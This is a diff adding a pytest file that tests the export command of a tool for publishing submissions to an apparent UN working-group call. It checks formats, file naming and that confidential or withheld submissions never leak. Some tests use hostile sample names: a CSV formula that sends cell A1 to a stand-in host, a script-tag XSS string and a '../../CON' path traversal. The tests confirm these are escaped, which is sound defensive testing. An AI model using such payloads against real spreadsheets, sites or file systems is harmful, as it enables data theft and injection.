@@ -1,0 +1,259 @@
+"""export: SPEC's publication rules on the sample messages, the four formats against golden
+files, the files to upload, and every way a confidential submission could slip out."""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import io
+import json
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from click.testing import Result
+
+from conftest import (
+    COMPANY,
+    CONFIDENTIAL,
+    DUPLICATE,
+    FORWARDED,
+    FRANCE,
+    LATE_ANONYMOUS,
+    LINK_ONLY,
+    MEXICO,
+    NHRI,
+    REVISED,
+    SUPERSEDED,
+    golden,
+)
+
+Run = Callable[..., Result]
+
+
+def export(run: Run, *args: str) -> dict[str, Any]:
+    result = run("export", "--format", "json", *args)
+    assert result.exit_code == 0, result.output
+    data: dict[str, Any] = json.loads(result.stdout)
+    return data
+
+
+def entries(data: dict[str, Any]) -> dict[int, dict[str, Any]]:
+    return {e["id"]: e for g in data["groups"] for e in g["entries"]}
+
+
+@pytest.mark.parametrize("fmt", ["json", "csv", "md", "html"])
+def test_each_format_matches_its_golden_file(run: Run, samples: Path, fmt: str) -> None:
+    result = run("export", "--format", fmt)
+    assert result.exit_code == 0, result.output
+    golden(f"export.{fmt}", result.stdout)
+
+
+def test_json_is_specs_shape_and_follows_the_rules(run: Run, samples: Path) -> None:
+    data = export(run)
+    assert set(data) == {"call", "groups"}
+    assert data["call"] == {
+        "title": "The role of private military and security companies in immigration and "
+        "border management",
+        "deadline": "2020-03-17T23:59:59.999+01:00",
+    }
+    assert [g["title"] for g in data["groups"]] == ["Member States", "Other stakeholders"]
+    for group in data["groups"]:
+        for entry in group["entries"]:
+            assert set(entry) == {"id", "name", "country", "files"}
+        names = [e["name"] for e in group["entries"]]
+        assert names == sorted(names, key=str.casefold)
+    published = entries(data)
+    # Superseded, confidential, late, duplicate and auto-reply are left out.
+    assert set(published) == {FRANCE, FORWARDED, NHRI, COMPANY, REVISED, MEXICO, LINK_ONLY}
+    states = {e["id"] for e in data["groups"][0]["entries"]}
+    assert states == {FRANCE, MEXICO}
+    assert published[MEXICO] == {
+        "id": MEXICO,
+        "name": "Mexico",
+        "country": "MEX",
+        "files": ["Mexico.pdf", "Mexico-2.docx"],
+    }
+    assert published[LINK_ONLY]["files"] == []  # needs_download: nothing to copy
+
+
+def test_late_ones_only_with_include_late_and_the_anonymous_stays_anonymous(
+    run: Run, samples: Path
+) -> None:
+    assert LATE_ANONYMOUS not in entries(export(run))
+    late = entries(export(run, "--include-late"))[LATE_ANONYMOUS]
+    assert late["name"] == "Anonymous submission"
+    assert late["files"] == ["Anonymous-submission.txt"]  # sent in the body
+    for fmt in ("csv", "md", "html"):
+        text = run("export", "--include-late", "--format", fmt).stdout
+        assert "Anonymous submission" in text and "Jordan" not in text
+    listed = json.loads(run("list", "--json").stdout)
+    assert next(i for i in listed if i["id"] == LATE_ANONYMOUS)["submitter"]["name"] == (
+        "Jordan Smith"
+    )
+
+
+def test_dry_run_gives_every_submission_its_verdict_and_writes_nothing(
+    run: Run, samples: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("COLUMNS", "200")  # a row a line
+    run("triage", str(COMPANY), "--withhold", "asked by phone to wait")
+    target = tmp_path / "x.json"
+    result = run("export", "--dry-run", "--files", str(tmp_path / "up"), "-o", str(target))
+    assert result.exit_code == 0, result.output
+    rows = [line.split(maxsplit=1) for line in result.stdout.splitlines()]
+    lines = {int(r[0]): r[1] for r in rows if r[:1] and r[0].isdigit() and r[1][:3] == "202"}
+    assert len(lines) == 11  # every submission, not the auto-reply
+    assert "superseded by #10" in lines[SUPERSEDED]
+    assert "confidential" in lines[CONFIDENTIAL]
+    assert "late" in lines[LATE_ANONYMOUS]
+    assert "duplicate of #1" in lines[DUPLICATE]
+    assert "withheld: asked by phone" in result.stdout
+    assert "published" in lines[MEXICO] and "needs_download" in result.stdout
+    assert not (tmp_path / "up").exists() and not target.exists()
+
+
+def test_an_officers_withhold_and_decisions_change_what_is_published(
+    run: Run, samples: Path
+) -> None:
+    assert run("triage", str(COMPANY), "--withhold", "duplicate of a letter").exit_code == 0
+    assert run("triage", str(FRANCE), "--confidentiality", "confidential").exit_code == 0
+    assert run("triage", str(CONFIDENTIAL), "--confidentiality", "publish").exit_code == 0
+    published = entries(export(run))
+    assert COMPANY not in published and FRANCE not in published
+    assert CONFIDENTIAL in published  # the officer checked with the author
+    # Tags never change it.
+    assert run("tag", "hold", str(NHRI)).exit_code == 0
+    assert NHRI in entries(export(run))
+
+
+def test_a_states_entry_is_its_un_short_name_and_groups_follow_the_type(
+    run: Run, samples: Path
+) -> None:
+    run("triage", str(FORWARDED), "--type", "member_state", "--country", "BOL",
+        "--name", "Permanent Mission of the Plurinational State of Bolivia")  # fmt: skip
+    run("triage", str(MEXICO), "--type", "civil_society", "--name", "Centro PRODH")
+    data = export(run)
+    states = {e["id"]: e for e in data["groups"][0]["entries"]}
+    assert states[FORWARDED]["name"] == "Bolivia (Plurinational State of)"
+    assert states[FORWARDED]["files"] == ["Bolivia-Plurinational-State-of.docx"]
+    others = {e["id"]: e for e in data["groups"][1]["entries"]}
+    assert others[MEXICO]["name"] == "Centro PRODH"
+    assert others[MEXICO]["files"] == ["Centro-PRODH.pdf", "Centro-PRODH-2.docx"]
+
+
+def test_unspecified_follows_the_config(run: Run, samples: Path, config_path: Path) -> None:
+    config_path.write_text(config_path.read_text() + '\n[publication]\nunspecified = "withhold"\n')
+    published = entries(export(run))
+    # France and the revised Border Watch say neither publish nor confidential.
+    assert FRANCE not in published and REVISED not in published
+    assert MEXICO in published
+
+
+def test_files_are_the_published_documents_byte_for_byte_under_unique_names(
+    run: Run, samples: Path, tmp_path: Path
+) -> None:
+    # Two submitters with one name, and names no file system would take as they are.
+    run("triage", str(FORWARDED), "--name", "SecureCorp")
+    run("triage", str(NHRI), "--name", "../../CON")
+    folder = tmp_path / "upload"
+    result = run("export", "--files", str(folder), "-o", str(tmp_path / "inputs.json"))
+    assert result.exit_code == 0, result.output
+    data = json.loads((tmp_path / "inputs.json").read_text("utf-8"))
+    listed = {e["id"]: e["files"] for e in entries(data).values()}
+    assert listed[FORWARDED] == ["SecureCorp.docx"] and listed[COMPANY] == ["SecureCorp-2.docx"]
+    assert listed[NHRI] == ["CON_.pdf"]
+    written = sorted(p.name for p in folder.iterdir())
+    assert written == sorted(name for names in listed.values() for name in names)
+    assert all(p.parent == folder for p in folder.rglob("*"))
+    # Each copy is the stored attachment itself; nothing of a left-out submission is there.
+    items = {i["id"]: i for i in json.loads(run("list", "--json", "--all").stdout)}
+    digests = {hashlib.sha256(p.read_bytes()).hexdigest() for p in folder.iterdir()}
+    for message_id, names in listed.items():
+        expected = {a["sha256"] for a in items[message_id]["attachments"]}
+        assert len(names) == len(expected) and expected <= digests
+    for left_out in (CONFIDENTIAL, SUPERSEDED, DUPLICATE):
+        for a in items[left_out]["attachments"]:
+            if a["sha256"] not in {x["sha256"] for x in items[REVISED]["attachments"]}:
+                assert a["sha256"] not in digests
+
+
+def test_files_never_go_into_a_folder_that_holds_anything(
+    run: Run, samples: Path, tmp_path: Path
+) -> None:
+    folder = tmp_path / "upload"
+    folder.mkdir()
+    (folder / "France.docx").write_bytes(b"an earlier export")
+    result = run("export", "--files", str(folder))
+    assert result.exit_code == 2
+    assert "must be a new or empty folder" in result.stderr
+    assert (folder / "France.docx").read_bytes() == b"an earlier export"
+
+
+def test_csv_cells_never_start_a_formula(run: Run, samples: Path) -> None:
+    hostile = {
+        FRANCE: '=HYPERLINK("http://x.example/?"&A1,"click")',
+        NHRI: "+1+1",
+        COMPANY: "-2+3",
+        REVISED: "@SUM(A1)",
+    }
+    for message_id, name in hostile.items():
+        run("triage", str(message_id), "--type", "civil_society", "--name", name)
+    rows = list(csv.DictReader(io.StringIO(run("export", "--format", "csv").stdout)))
+    names = {int(r["id"]): r["name"] for r in rows}
+    for message_id, name in hostile.items():
+        assert names[message_id] == "'" + name
+    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
+
+
+def test_html_and_markdown_escape_every_value(run: Run, samples: Path) -> None:
+    run("triage", str(COMPANY), "--name", '<script>alert("x")</script> & <b>Co</b>')
+    html = run("export", "--format", "html").stdout
+    assert "<script" not in html and "<b>" not in html
+    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt; &amp; &lt;b&gt;Co&lt;/b&gt;" in html
+    md = run("export", "--format", "md").stdout
+    assert r"\<script\>alert(\"x\")" not in md  # quotes are no markup
+    assert r"\<script\>" in md and r"\<b\>Co\</b\>" in md and r"\&" in md
+
+
+def test_require_reviewed_refuses_until_an_officer_confirmed_each_one(
+    run: Run, samples: Path
+) -> None:
+    refused = run("export", "--require-reviewed")
+    assert refused.exit_code == 1
+    assert "not confirmed by an officer" in refused.stderr
+    assert f"#{MEXICO} " in refused.stderr and f"#{CONFIDENTIAL} " not in refused.stderr
+    assert refused.stdout == ""
+    assert run("triage", "--auto").exit_code == 0  # suggestions kept are not a review
+    assert run("export", "--require-reviewed").exit_code == 1
+    for v in entries(export(run)).values():
+        run("triage", str(v["id"]), "--name", v["name"], "--confidentiality", "publish")
+    result = run("export", "--require-reviewed", "--format", "json")
+    assert result.exit_code == 0, result.output
+
+
+def test_output_file_takes_its_format_from_the_extension(
+    run: Run, samples: Path, tmp_path: Path
+) -> None:
+    for suffix, starts in ((".html", "<section"), (".md", "# "), (".csv", "group,id")):
+        target = tmp_path / f"inputs{suffix}"
+        assert run("export", "-o", str(target)).exit_code == 0
+        assert target.read_text("utf-8").startswith(starts)
+    missing = run("export", "-o", str(tmp_path / "no" / "such" / "inputs.json"))
+    assert missing.exit_code == 1
+    assert missing.stderr.startswith("Error:") and len(missing.stderr.splitlines()) == 1
+
+
+def test_export_without_a_store_is_one_line(run: Run) -> None:
+    result = run("export")
+    assert result.exit_code == 1
+    assert "no store" in result.stderr and "Traceback" not in result.output
+
+
+def test_readers_do_not_wait_for_a_writer(run: Run, samples: Path) -> None:
+    from wgsubmit.store import Store
+
+    with Store.open_for_writing(samples, "wgsubmit fetch"):
+        assert run("export").exit_code == 0
+        assert run("stats").exit_code == 0
